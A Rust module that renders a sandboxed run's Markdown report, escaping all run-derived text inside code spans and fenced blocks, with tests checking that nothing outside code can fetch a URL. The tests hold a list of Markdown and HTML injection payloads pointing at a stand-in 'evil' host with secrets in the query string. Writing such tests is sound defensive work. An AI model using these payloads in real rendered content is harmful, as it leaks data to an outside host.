//! The Markdown report of a run (`runnable.showReport`).
//!
//! Everything a run produced (exception messages, names, values, paths,
//! package names, output) is text a fragment controls, and a previewer
//! renders the report: a link or an image formed from it would fetch a URL
//! that carries whatever the sandbox read. So every such piece goes
//! through `code` (an inline code span) or `block` (a fenced code block),
//! whose fences are longer than any backtick run in the text: nothing in it
//! can close them, and inside them Markdown forms no links, images, HTML or
//! entities. Only the report's own words and numbers are plain Markdown.

use super::state::LastRun;
use crate::report::FixReport;
use std::fmt::Write as _;

/// Inline text longer than this (in chars) is cut, to keep the report readable.
const MAX_INLINE: usize = 1000;
/// Output longer than this (in chars) is cut.
const MAX_OUTPUT: usize = 4000;

/// The longest run of backticks in `text`.
fn longest_backtick_run(text: &str) -> usize {
    text.split(|c| c != '`').map(str::len).max().unwrap_or(0)
}

/// `text` as one inert inline code span. Line breaks become `\n` / `\r`
/// (a blank line would end the paragraph, and the span with it); a space
/// pads text that starts or ends with a backtick or a space (CommonMark
/// strips one on each side).
pub fn code(text: &str) -> String {
    let mut one_line = String::with_capacity(text.len().min(MAX_INLINE * 4));
    for (i, c) in text.chars().enumerate() {
        if i == MAX_INLINE {
            one_line.push('…');
            break;
        }
        match c {
            '\n' => one_line.push_str("\\n"),
            '\r' => one_line.push_str("\\r"),
            c => one_line.push(c),
        }
    }
    if one_line.is_empty() {
        return "` `".into();
    }
    let fence = "`".repeat(longest_backtick_run(&one_line) + 1);
    let pad = if one_line.starts_with(['`', ' ']) || one_line.ends_with(['`', ' ']) { " " } else { "" };
    format!("{fence}{pad}{one_line}{pad}{fence}")
}

/// `text` as an inert fenced code block (with its trailing newline),
/// `info` being the report's own language tag.
pub fn block(text: &str, info: &str) -> String {
    let fence = "`".repeat(longest_backtick_run(text).max(2) + 1);
    let newline = if text.ends_with('\n') { "" } else { "\n" };
    format!("{fence}{info}\n{text}{newline}{fence}\n")
}

/// A list of run-derived names, each inert, joined by commas.
fn codes<'a>(items: impl IntoIterator<Item = &'a String>) -> String {
    items.into_iter().map(|s| code(s)).collect::<Vec<_>>().join(", ")
}

pub fn render(last: &LastRun, document: &str) -> String {
    let r: &FixReport = &last.report;
    let mut md = String::new();
    let status = serde_json::to_value(r.status).ok().and_then(|v| v.as_str().map(str::to_string)).unwrap_or_default();
    let _ = writeln!(md, "{}: {}\n", super::files::REPORT_HEADING, code(document));
    let _ = writeln!(
        md,
        "Lines {}–{} (version {}). **{}**, coverage **{}/{}** statements ({:.0}%), {} run(s) in {:.2} s.\n",
        last.fragment.start + 1,
        last.fragment.end + 1,
        last.version,
        code(&status),
        r.coverage.covered.len(),
        r.coverage.executable.len(),
        r.coverage.ratio * 100.0,
        r.stats.executions,
        r.stats.seconds
    );
    if let Some(note) = &last.note {
        let _ = writeln!(md, "> Note: {}\n", code(note));
    } else if !last.applied {
        let _ = writeln!(md, "> The result was not applied to the document.\n");
    }
    if let Some(e) = &r.error {
        let line = e.line.map(|l| format!(" at line {}", last.fragment.start + l)).unwrap_or_default();
        // Not at the start of a line, where a run of backticks could look
        // like a fence to a careless renderer.
        let _ = writeln!(md, "## Stopped\n\nWith {}{line}\n", code(&format!("{}: {}", e.type_name, e.message)));
    }

    let imports: Vec<&str> = r.prefix.lines().filter(|l| l.starts_with("import ") || l.starts_with("from ")).collect();
    let _ = writeln!(md, "## Imported\n");
    if imports.is_empty() {
        let _ = writeln!(md, "Nothing.\n");
    } else {
        for i in imports {
            let _ = writeln!(md, "- {}", code(i));
        }
        md.push('\n');
    }

    let _ = writeln!(md, "## Environment\n\n- interpreter: {}", code(&r.python));
    if !r.packages.is_empty() {
        let _ = writeln!(md, "- packages: {}", codes(&r.packages));
    }
    if !last.installed_now.is_empty() {
        let _ = writeln!(md, "- installed for this run: {}", codes(&last.installed_now));
    }
    if !r.missing_packages.is_empty() {
        let _ = writeln!(md, "- not installed: {}", codes(&r.missing_packages));
    }
    if !r.unknown_imports.is_empty() {
        let _ = writeln!(md, "- unknown imports (never installed): {}", codes(&r.unknown_imports));
    }
    for (p, why) in &r.failed_packages {
        let _ = writeln!(md, "- failed to install {}: {}", code(p), code(why));
    }
    for o in &r.optional {
        let _ = writeln!(md, "- optional dependency: {}", code(&crate::human::optional_line(o)));
    }
    if let Some(l) = &r.legacy {
        let _ = writeln!(md, "- version fallback: {}", code(&crate::human::legacy_line(l)));
    }
    if let Some(c) = &r.containment {
        let note = c.note.as_ref().map(|n| format!(" ({})", code(n))).unwrap_or_default();
        let _ = writeln!(md, "- sandbox: bubblewrap {}{note}", if c.bubblewrap { "yes" } else { "no" });
        if c.bubblewrap && c.network {
            let _ = writeln!(md, "- network: allowed for this run");
        }
    }
    for d in &r.denied {
        // The detail is the program's own exception text: inert in a code span.
        let _ = writeln!(md, "- denied by the sandbox: {} ({}): {}", d.what, d.layer, code(&d.detail));
    }
    md.push('\n');

    // A list, not a table: a `|` splits a table cell even inside a code span.
    let _ = writeln!(md, "## Defined\n");
    if r.names.is_empty() {
        let _ = writeln!(md, "Nothing.\n");
    } else {
        for n in &r.names {
            let _ = writeln!(md, "- {}: {}{}", code(&n.name), code(&n.kind), if n.stub { " (stub)" } else { "" });
        }
        md.push('\n');
    }

    let _ = writeln!(md, "## Created\n");
    if last.created.is_empty() {
        let _ = writeln!(md, "No files.\n");
    } else {
        for p in &last.created {
            let _ = writeln!(md, "- {}", code(&p.display().to_string()));
        }
        md.push('\n');
    }
    if !last.skipped.is_empty() {
        let _ = writeln!(md, "## Not written\n");
        for (p, why) in &last.skipped {
            let _ = writeln!(md, "- {}: {}", code(&p.display().to_string()), code(why));
        }
        md.push('\n');
    }

    if !r.prefix.is_empty() {
        let _ = writeln!(md, "## Prefix\n\n{}", block(&r.prefix, "python"));
    }
    if !r.suffix.is_empty() {
        let _ = writeln!(md, "## Driver\n\n{}", block(&r.suffix, "python"));
    }
    if !r.stdout.is_empty() {
        let out: String = r.stdout.chars().take(MAX_OUTPUT).collect();
        let _ = writeln!(md, "## Output\n\n{}", block(out.trim_end(), "text"));
    }
    md
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What a previewer would make of `md` outside code: every backtick
    /// span and fenced block removed, by the CommonMark rules for closing
    /// them (same-length run inline, a line of at least as many backticks
    /// for a fence). What is left must hold no Markdown that fetches or
    /// links anything.
    fn outside_code(md: &str) -> String {
        let mut out = String::new();
        let mut lines = md.split('\n').peekable();
        while let Some(line) = lines.next() {
            let t = line.trim_start();
            let fence = t.len() - t.trim_start_matches('`').len();
            if fence >= 3 {
                for l in lines.by_ref() {
                    let lt = l.trim();
                    if lt.len() >= fence && lt.chars().all(|c| c == '`') {
                        break;
                    }
                }
                continue;
            }
            let b = line.as_bytes();
            let mut i = 0;
            while i < b.len() {
                if b[i] == b'`' {
                    let n = line[i..].len() - line[i..].trim_start_matches('`').len();
                    let rest = &line[i + n..];
                    let close = (0..rest.len()).find(|&j| {
                        rest[j..].starts_with(&"`".repeat(n)) && !rest[j + n..].starts_with('`') && (j == 0 || !rest[..j].ends_with('`'))
                    });
                    match close {
                        Some(j) => i += n + j + n,
                        None => {
                            out.push_str(&line[i..i + n]);
                            i += n;
                        }
                    }
                } else {
                    let c = line[i..].chars().next().unwrap();
                    out.push(c);
                    i += c.len_utf8();
                }
            }
            out.push('\n');
        }
        out
    }

    fn assert_inert(md: &str) {
        let rest = outside_code(md);
        for bad in ["![", "](", "<", "http", "evil", "&#", "[x]"] {
            assert!(!rest.contains(bad), "{bad:?} outside code in\n{md}\n--- outside code ---\n{rest}");
        }
    }

    #[test]
    fn the_checker_sees_markdown_outside_code() {
        for raw in ["![x](http://evil/?s)", "`a` ![x](http://evil/?s) `b`", "``a` ![x](http://evil/?s)", "```\nx\n```\n<img src=x>"] {
            assert!(std::panic::catch_unwind(|| assert_inert(raw)).is_err(), "{raw:?} passed");
        }
    }

    const HOSTILE: &[&str] = &[
        "![x](http://evil/?secret=42)",
        "`![x](http://evil/?a)`",
        "``![x](http://evil/?b)``` `",
        "a\n\n![x](http://evil/?c)",
        "<img src=http://evil/?d>",
        "[x]: http://evil/?e",
        "&#x3C;img src=http://evil/?f&#x3E;",
        "x\r\n```\n![x](http://evil/?g)\n```",
        "` ",
        " `",
        "`",
        "",
        "http://evil/?autolink www.evil.com",
    ];

    #[test]
    fn hostile_text_stays_inside_its_code_span() {
        for h in HOSTILE {
            let span = code(h);
            assert!(!span.contains('\n'), "{span:?}");
            assert_inert(&format!("- before {span} after\n"));
            // The span gives the text back, line breaks spelled out.
            let fence = span.len() - span.trim_start_matches('`').len();
            let inner = &span[fence..span.len() - fence];
            let inner = if inner.len() >= 2 && inner.starts_with(' ') && inner.ends_with(' ') && !inner.trim().is_empty() { &inner[1..inner.len() - 1] } else { inner };
            if !h.is_empty() {
                assert_eq!(inner, h.replace('\n', "\\n").replace('\r', "\\r"), "{span:?}");
            }
        }
    }

    #[test]
    fn hostile_text_stays_inside_its_fenced_block() {
        for h in HOSTILE {
            let md = format!("## Output\n\n{}\n![ok]", block(h, "text"));
            let rest = outside_code(&md);
            assert!(rest.ends_with("![ok]\n"), "the block closes where it should: {md}");
            assert_inert(&md.replace("![ok]", ""));
        }
    }

    #[test]
    fn long_text_is_cut_and_fences_outgrow_backtick_runs() {
        assert!(code(&"a".repeat(5000)).chars().count() < MAX_INLINE + 10);
        assert_eq!(code("a```b"), "````a```b````");
        assert_eq!(code("`x`"), "`` `x` ``");
        assert!(block("````\n", "").starts_with("`````\n"));
    }

    #[test]
    fn a_report_of_a_hostile_run_is_inert() {
        use crate::lsp::regions::Fragment;
        use crate::report::ErrorInfo;
        let evil = "![x](http://evil/?secret=s3cr3t)";
        let mut report: FixReport = crate::lsp::convert::tests::report("import os\n", "", &[1], &[]);
        report.error = Some(ErrorInfo { type_name: "ValueError".into(), message: format!("boom {evil}\n\n<b>{evil}</b>"), line: Some(1) });
        report.python = format!("/usr/bin/{evil}");
        report.stdout = format!("```\n{evil}\n```\n");
        report.missing_packages = vec![evil.into()];
        report.unknown_imports = vec![evil.into()];
        report.failed_packages = vec![(evil.into(), evil.into())];
        report.names = vec![crate::synth::name_info::NameInfo { name: format!("a|b{evil}"), kind: evil.into(), stub: true, rule: None }.into()];
        let last = LastRun {
            uri: "file:///w/a.py".parse().unwrap(),
            version: 1,
            fragment: Fragment { start: 0, end: 0 },
            fragment_text: "x".into(),
            report,
            applied: true,
            note: Some(format!("cannot write {evil}")),
            created: vec![format!("/w/.runnable/{evil}").into()],
            skipped: vec![(format!("/w/{evil}").into(), evil.into())],
            installed_now: vec![evil.into()],
        };
        let md = render(&last, &format!("{evil}.py"));
        assert_inert(&md);
        assert!(md.contains("s3cr3t"), "the text is still there, inert: {md}");
        assert!(md.contains("## Stopped") && md.contains("## Not written"), "{md}");
    }
}
